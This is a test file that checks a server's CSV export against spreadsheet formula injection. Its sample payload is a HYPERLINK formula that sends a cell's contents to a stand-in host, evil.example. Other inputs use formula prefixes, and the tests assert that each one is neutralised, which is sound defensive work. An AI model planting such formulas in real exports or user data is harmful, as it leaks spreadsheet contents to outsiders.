import { describe, expect, it } from '@jest/globals';
import request from 'supertest';
import { neutraliseCell, toCsv } from '../../server/src/http/csv.js';
import { usePlatform } from '../helpers/platform.js';

const EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&B3,"Tunewave")';

describe('CSV exports never run formulas (OWASP CSV Injection)', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', "'\rcmd"],
    ['Tunewave', 'Tunewave'],
    ['a=b', 'a=b'],
  ])('When a text cell is %j, then it is written as %j', (cell, expected) => {
    expect(neutraliseCell(cell)).toBe(expected);
  });

  it('When rows mix text and numbers, then formula text is quoted with a leading apostrophe and numbers stay numbers', () => {
    expect(toCsv([[EVIL_NAME, -5, 'ok']])).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&B3,""Tunewave"")",-5,"ok"\n`);
  });

  it('When a text cell hides a formula after a semicolon (the list separator of many locales), then every text cell is quoted', () => {
    expect(toCsv([['x;=1+1', 'Tunewave', 3]])).toBe('"x;=1+1","Tunewave",3\n');
  });

  describe('/monitor/exposure.csv', () => {
    const gh = usePlatform();

    it('When clients register with a formula in their name, then its cell in the export starts with an apostrophe and a name with a semicolon stays one quoted cell', async () => {
      const reg = await request(gh.url)
        .post('/reg')
        .set('Authorization', `Bearer ${gh.config.ADMIN_TOKEN}`)
        .send({ client_name: EVIL_NAME, redirect_uris: ['https://evil.example/cb'], scope: 'profile' })
        .expect(201);
      await request(gh.url)
        .post('/reg')
        .set('Authorization', `Bearer ${gh.config.ADMIN_TOKEN}`)
        .send({ client_name: 'Tunewave;=1+1', redirect_uris: ['https://evil.example/cb'], scope: 'profile' })
        .expect(201);
      const csv = await request(gh.url)
        .get('/monitor/exposure.csv')
        .set('Authorization', `Bearer ${gh.config.ADMIN_TOKEN}`)
        .expect(200);
      // A random client id may itself start with "-" (base64url), which the export prefixes with an apostrophe.
      const id = reg.body.client_id as string;
      const line = csv.text.split('\n').find((l) => l.startsWith(`"${id}"`) || l.startsWith(`"'${id}"`));
      expect(line).toBeDefined();
      expect(line!.split(',')[1]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&B3`);
      expect(csv.text).not.toMatch(/(^|,)=/m);
      expect(csv.text).toContain(',"Tunewave;=1+1",');
    });
  });
});
